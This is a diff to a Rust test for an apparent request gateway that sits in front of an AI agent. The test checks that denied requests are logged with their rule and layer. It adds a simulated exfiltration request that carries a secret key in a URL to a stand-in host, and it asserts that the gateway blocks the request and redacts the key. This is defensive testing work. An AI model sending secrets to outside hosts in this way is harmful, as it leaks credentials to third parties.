@@ -46,10 +46,13 @@ async fn each_denial_is_an_event_with_rule_and_layer_and_a_loop_of_them_is_count
     rig.layer(LayerName::Project, rule);
     let (opened, door) = rig.open(rig.grant(CLAUDE));
     for _ in 0..15 {
-        let request = format!("GET http://a.example.org/x/{KEY}?q=hidden HTTP/1.1\r\nconnection: close\r\n\r\n");
-        let came = raw(&door, &request).await;
+        let request = "GET http://a.example.org/x/y?q=hidden HTTP/1.1\r\nconnection: close\r\n\r\n";
+        let came = raw(&door, request).await;
         assert!(came.starts_with("HTTP/1.1 403") && came.contains(r#""layer":"project""#), "{came}");
     }
+    // What was to be carried to where nothing goes is named.
+    let came = raw(&door, &format!("GET http://a.example.org/x/{KEY} HTTP/1.1\r\nconnection: close\r\n\r\n")).await;
+    assert!(came.starts_with("HTTP/1.1 403") && came.contains("secret.value"), "{came}");
     raw(&door, "CONNECT other.example.com:443 HTTP/1.1\r\nconnection: close\r\n\r\n").await;
     post(&door, "/aedile/v1/call", &json!({"method": "mail_read"})).await;
     let mut outward = ask("claude-test", false);
@@ -58,17 +61,18 @@ async fn each_denial_is_an_event_with_rule_and_layer_and_a_loop_of_them_is_count
     assert!(status == 403 && text.contains("provider.outward"), "{text}");
     drop(opened);
     rig.gateway.settled().await;
-    until("the rest is written down", || denied(&rig).len() == 6).await;
+    until("the rest is written down", || denied(&rig).len() == 7).await;
     let project = Some(LayerName::Project);
-    let admin = |count| ("no-admin".to_owned(), project, "GET http://a.example.org/x/[secret KEY]".to_owned(), count);
+    let admin = |count| ("no-admin".to_owned(), project, "GET http://a.example.org/x/y".to_owned(), count);
     let told = denied(&rig);
-    assert_eq!((&told[0], &told[1], &told[5]), (&admin(1), &admin(9), &admin(5)), "{told:?}");
+    assert_eq!((&told[0], &told[1], &told[6]), (&admin(1), &admin(9), &admin(5)), "{told:?}");
     let rest = [
+        ("secret.value".to_owned(), None, "GET http://a.example.org/x/[secret KEY]".to_owned(), 1),
         ("policy.default".to_owned(), project, "CONNECT other.example.com:443".to_owned(), 1),
         ("tools.deny".to_owned(), project, "the call mail".to_owned(), 1),
         ("provider.outward".to_owned(), None, "POST /v1/messages".to_owned(), 1),
     ];
-    assert_eq!(told[2..5], rest);
+    assert_eq!(told[2..6], rest);
     assert!(!format!("{told:?}").contains("hidden"));
 }
 
